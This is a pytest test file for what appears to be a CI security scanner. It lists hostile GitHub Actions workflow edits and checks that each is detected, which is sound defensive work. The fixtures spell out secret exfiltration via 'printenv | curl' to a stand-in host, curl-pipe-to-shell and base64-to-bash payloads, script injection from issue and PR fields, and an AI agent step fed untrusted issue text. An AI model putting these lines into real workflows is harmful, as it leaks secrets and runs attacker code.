"""Workflows and actions turned against their owners, in many spellings."""

from __future__ import annotations

import pytest

from rules.finding import Severity
from tests.rules.kit import Hostile, change, ci, judged

SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
HEAD = (
    "name: x\non: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
    f"      - uses: actions/checkout@{SHA} # v4.1.1\n"
)
WORKFLOW = ".github/workflows/x.yml"

HOSTILE: dict[str, Hostile] = {
    "flow-style trigger": Hostile(
        ci(HEAD, HEAD.replace("on: push", "on: {pull_request_target: {types: [opened]}}"), WORKFLOW),
        "privileged-trigger",
        Severity.HIGH,
    ),
    "quoted on key": Hostile(
        ci(HEAD, HEAD.replace("on: push", '"on": ["push", "issue_comment"]'), WORKFLOW),
        "privileged-trigger",
        Severity.REVIEW,
    ),
    "CRLF trigger": Hostile(
        ci(
            HEAD.replace("\n", "\r\n"),
            HEAD.replace("on: push", "on: [push, workflow_run]").replace("\n", "\r\n"),
            WORKFLOW,
        ),
        "privileged-trigger",
        Severity.HIGH,
    ),
    "anchored permissions": Hostile(
        ci(HEAD, HEAD.replace("  a:\n", "  a:\n    permissions: &p {contents: write, id-token: write}\n"), WORKFLOW),
        "permission-widened",
        Severity.HIGH,
    ),
    "permissions flow write-all quoted": Hostile(
        ci(HEAD, HEAD.replace("permissions:\n  contents: read", "permissions: 'write-all'"), WORKFLOW),
        "permission-widened",
        Severity.HIGH,
    ),
    "permissions removed": Hostile(
        ci(HEAD, HEAD.replace("permissions:\n  contents: read\n", ""), WORKFLOW), "permission-widened", Severity.HIGH
    ),
    "packages write": Hostile(
        ci(HEAD, HEAD.replace("contents: read", "contents: read\n  packages: write\n  actions: write"), WORKFLOW),
        "permission-widened",
        Severity.HIGH,
    ),
    "secrets inherit flow": Hostile(
        ci(HEAD, HEAD + "  b: {uses: ./.github/workflows/deploy.yml, secrets: inherit}\n", WORKFLOW),
        "secrets-inherit",
        Severity.HIGH,
    ),
    "env indirection injection": Hostile(
        ci(
            HEAD,
            HEAD + "      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo ${{ env.T }}\n",
            WORKFLOW,
        ),
        "script-injection",
        Severity.HIGH,
    ),
    "github-script injection": Hostile(
        ci(
            HEAD,
            HEAD
            + (
                "      - uses: actions/github-script@v7\n        with:\n          script: |\n"
                "            console.log(`${{ github.event.comment.body }}`)\n"
            ),
            WORKFLOW,
        ),
        "script-injection",
        Severity.HIGH,
    ),
    "head_ref in bracket notation": Hostile(
        ci(HEAD, HEAD + "      - run: git switch ${{ github['head_ref'] }}\n", WORKFLOW),
        "script-injection",
        Severity.HIGH,
    ),
    "event bracket notation": Hostile(
        ci(HEAD, HEAD + "      - run: echo ${{ github.event['pull_request']['title'] }}\n", WORKFLOW),
        "script-injection",
        Severity.HIGH,
    ),
    "format() injection": Hostile(
        ci(HEAD, HEAD + "      - run: ${{ format('echo {0}', github.event.pull_request.body) }}\n", WORKFLOW),
        "script-injection",
        Severity.HIGH,
    ),
    "uppercase context injection": Hostile(
        ci(HEAD, HEAD + "      - run: echo ${{ GitHub.Event.Pull_Request.Title }}\n", WORKFLOW),
        "script-injection",
        Severity.HIGH,
    ),
    "composite action injection": Hostile(
        change(
            {
                ".github/actions/t/action.yml": "name: t\nruns:\n  using: composite\n  steps:\n    - run: echo\n      shell: bash\n"
            },
            {
                ".github/actions/t/action.yml": (
                    "name: t\nruns:\n  using: composite\n  steps:\n"
                    "    - run: echo ${{ github.event.issue.body }}\n      shell: bash\n"
                )
            },
        ),
        "script-injection",
        Severity.HIGH,
    ),
    "merge of attacker's PR by number": Hostile(
        ci(
            HEAD.replace("on: push", "on: pull_request_target"),
            HEAD.replace("on: push", "on: pull_request_target")
            + (
                "      - run: |\n          git fetch origin pull/${{ github.event.number }}/head:x\n"
                "          git checkout x && make\n"
            ),
            WORKFLOW,
        ),
        "untrusted-checkout",
        Severity.HIGH,
    ),
    "checkout by head.sha in flow": Hostile(
        ci(
            HEAD.replace("on: push", "on: pull_request_target"),
            HEAD.replace("on: push", "on: pull_request_target")
            + f"      - {{uses: actions/checkout@{SHA}, with: {{ref: '${{{{ github.event.pull_request.head.sha }}}}'}}}}\n",
            WORKFLOW,
        ),
        "untrusted-checkout",
        Severity.HIGH,
    ),
    "refs/pull merge": Hostile(
        ci(
            HEAD.replace("on: push", "on: pull_request_target"),
            HEAD.replace("on: push", "on: pull_request_target")
            + (
                f"      - uses: actions/checkout@{SHA}\n        with:\n"
                f"          ref: refs/pull/${{{{ github.event.number }}}}/merge\n"
            ),
            WORKFLOW,
        ),
        "untrusted-checkout",
        Severity.HIGH,
    ),
    "pin to branch": Hostile(
        ci(HEAD + f"      - uses: shoal/deploy@{SHA} # v1\n", HEAD + "      - uses: shoal/deploy@main\n", WORKFLOW),
        "action-unpinned",
        Severity.HIGH,
    ),
    "pin to short sha": Hostile(
        ci(
            HEAD + f"      - uses: shoal/deploy@{SHA} # v1\n",
            HEAD + f"      - uses: shoal/deploy@{SHA[:12]}\n",
            WORKFLOW,
        ),
        "action-unpinned",
        Severity.HIGH,
    ),
    "pin moved, comment kept": Hostile(
        ci(HEAD, HEAD.replace(SHA, "0" * 39 + "1"), WORKFLOW), "action-pin-mismatch", Severity.CRITICAL
    ),
    "self-hosted in matrix": Hostile(
        ci(
            HEAD,
            HEAD.replace(
                "runs-on: ubuntu-24.04",
                "runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-24.04, self-hosted]",
            ),
            WORKFLOW,
        ),
        "self-hosted-runner",
        Severity.HIGH,
    ),
    "secret to output": Hostile(
        ci(
            HEAD,
            HEAD + "      - run: echo \"t=$T\" >> $GITHUB_OUTPUT\n        env: {T: '${{ secrets.DEPLOY_KEY }}'}\n",
            WORKFLOW,
        ),
        "secret-exposed",
        Severity.HIGH,
    ),
    "secret via xxd": Hostile(
        ci(HEAD, HEAD + "      - run: echo ${{ secrets.DEPLOY_KEY }} | xxd\n", WORKFLOW),
        "secret-exposed",
        Severity.HIGH,
    ),
    "env dump python": Hostile(
        ci(
            HEAD,
            HEAD + "      - shell: python\n        run: |\n          import os; print(dict(os.environ))\n",
            WORKFLOW,
        ),
        "secret-exposed",
        Severity.HIGH,
    ),
    "printenv to curl": Hostile(
        ci(HEAD, HEAD + "      - run: printenv | curl -s --data-binary @- https://kelp.example.net/in\n", WORKFLOW),
        "secret-exposed",
        Severity.CRITICAL,
    ),
    "toJSON secrets env": Hostile(
        ci(HEAD, HEAD + "      - run: node x.js\n        env:\n          ALL: ${{ toJson(secrets) }}\n", WORKFLOW),
        "secret-exposed",
        Severity.CRITICAL,
    ),
    "powershell iex": Hostile(
        ci(HEAD, HEAD + "      - shell: pwsh\n        run: iwr -useb https://get.example.net/i.ps1 | iex\n", WORKFLOW),
        "remote-code-exec",
        Severity.CRITICAL,
    ),
    "source process substitution": Hostile(
        ci(HEAD, HEAD + "      - run: source <(curl -s https://get.example.net/i.sh)\n", WORKFLOW),
        "remote-code-exec",
        Severity.CRITICAL,
    ),
    "python -c urlopen exec": Hostile(
        ci(
            HEAD,
            HEAD
            + "      - run: python3 -c \"import urllib.request as u;exec(u.urlopen('https://get.example.net/x').read())\"\n",
            WORKFLOW,
        ),
        "remote-code-exec",
        Severity.CRITICAL,
    ),
    "folded yaml curl pipe": Hostile(
        ci(HEAD, HEAD + "      - run: >-\n          curl -s https://get.example.net/i.sh\n          | sh\n", WORKFLOW),
        "remote-code-exec",
        Severity.CRITICAL,
    ),
    "go run latest": Hostile(
        ci(HEAD, HEAD + "      - run: go run example.org/tool@latest ./...\n", WORKFLOW),
        "remote-code-exec",
        Severity.HIGH,
    ),
    "uvx unpinned": Hostile(
        ci(HEAD, HEAD + "      - run: uvx kelp-audit\n", WORKFLOW), "remote-code-exec", Severity.HIGH
    ),
    "GITHUB_ENV NODE_OPTIONS": Hostile(
        ci(HEAD, HEAD + "      - run: echo 'NODE_OPTIONS=--require ./x.js' >> $GITHUB_ENV\n", WORKFLOW),
        "env-injection",
        Severity.HIGH,
    ),
    "job env LD_PRELOAD": Hostile(
        ci(HEAD, HEAD.replace("    runs-on", "    env:\n      LD_PRELOAD: ./x.so\n    runs-on"), WORKFLOW),
        "env-injection",
        Severity.HIGH,
    ),
    "PATH via GITHUB_PATH": Hostile(
        ci(HEAD, HEAD + '      - run: echo "$PWD/bin" >> "$GITHUB_PATH"\n', WORKFLOW), "env-injection", Severity.REVIEW
    ),
    "soft fail expression": Hostile(
        ci(
            HEAD + "      - run: pytest\n",
            HEAD + "      - run: pytest\n        continue-on-error: ${{ true }}\n",
            WORKFLOW,
        ),
        "check-soft-failed",
        Severity.HIGH,
    ),
    "or-true in multi line": Hostile(
        ci(HEAD + "      - run: pytest\n", HEAD + "      - run: |\n          pytest || true\n", WORKFLOW),
        "check-soft-failed",
        Severity.HIGH,
    ),
    "if never by name": Hostile(
        ci(
            HEAD + "      - run: pytest\n",
            HEAD + "      - run: pytest\n        if: ${{ github.actor == 'nobody' && false }}\n",
            WORKFLOW,
        ),
        "check-disabled",
        Severity.HIGH,
    ),
    "job deleted": Hostile(
        ci(
            HEAD
            + ("  codeql:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: github/codeql-action/analyze@v3\n"),
            HEAD,
            WORKFLOW,
        ),
        "check-disabled",
        Severity.HIGH,
    ),
    "paths-ignore all": Hostile(
        ci(
            HEAD.replace("on: push", "on:\n  push:\n"),
            HEAD.replace("on: push", "on:\n  push:\n    paths-ignore: ['**']\n"),
            WORKFLOW,
        ),
        "check-disabled",
        Severity.HIGH,
    ),
    "artifact whole workspace": Hostile(
        ci(
            HEAD,
            HEAD
            + (
                "      - uses: actions/upload-artifact@v4\n"
                "        with: {name: x, path: ., include-hidden-files: true}\n"
            ),
            WORKFLOW,
        ),
        "artifact-leak",
        Severity.HIGH,
    ),
    "cache in release": Hostile(
        ci(
            HEAD.replace("on: push", "on:\n  release:\n    types: [published]"),
            HEAD.replace("on: push", "on:\n  release:\n    types: [published]")
            + (
                "      - uses: actions/cache@v4\n        with: {path: node_modules, key: deps}\n"
                "      - run: npm publish\n        env: {NODE_AUTH_TOKEN: '${{ secrets.NPM }}'}\n"
            ),
            WORKFLOW,
        ),
        "cache-poisoning",
        Severity.HIGH,
    ),
    "claude step on issues": Hostile(
        ci(
            HEAD.replace("on: push", "on: issues"),
            HEAD.replace("on: push", "on: issues")
            + (
                "      - uses: anthropics/claude-code-action@v1\n        with:\n"
                "          prompt: Solve ${{ github.event.issue.body }}\n"
                "          claude_args: --allowedTools Bash\n"
            ),
            WORKFLOW,
        ),
        "agent-step-untrusted-input",
        Severity.HIGH,
    ),
    "reusable ref moved": Hostile(
        ci(
            HEAD + "  b:\n    uses: shoal/ci/.github/workflows/t.yml@v1\n",
            HEAD + "  b:\n    uses: sh0al/ci/.github/workflows/t.yml@v1\n",
            WORKFLOW,
        ),
        "reusable-workflow-ref lookalike-name",
        Severity.HIGH,
    ),
    "workflow by rename": Hostile(
        change(
            {"docs/x.yml": HEAD},
            {WORKFLOW: HEAD + "      - run: curl -s https://get.example.net/x|sh\n"},
            renamed={WORKFLOW: "docs/x.yml"},
        ),
        "workflow-added remote-code-exec",
        Severity.HIGH,
    ),
    "yaml second document": Hostile(
        ci(HEAD, HEAD + "---\njobs: {}\n", WORKFLOW), "workflow-edited not-inspectable", Severity.REVIEW
    ),
    "duplicate keys": Hostile(
        ci(
            HEAD,
            HEAD.replace("    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    runs-on: self-hosted\n"),
            WORKFLOW,
        ),
        "self-hosted-runner not-inspectable",
        Severity.HIGH,
    ),
    "base64 decode bash": Hostile(
        ci(HEAD, HEAD + "      - run: echo Y3VybCBodHRwczovL3guZXhhbXBsZS5uZXQ= | base64 -d | bash\n", WORKFLOW),
        "obfuscated-payload",
        Severity.CRITICAL,
    ),
    "job container swapped": Hostile(
        ci(
            HEAD,
            HEAD.replace(
                "    runs-on: ubuntu-24.04",
                "    runs-on: ubuntu-24.04\n    container: {image: 'kelp.example.net/ci:latest'}",
            ),
            WORKFLOW,
        ),
        "base-image-changed new-network-destination",
        Severity.HIGH,
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_workflow_is_seen(what: str) -> None:
    assert judged(HOSTILE[what]) >= HOSTILE[what].severity
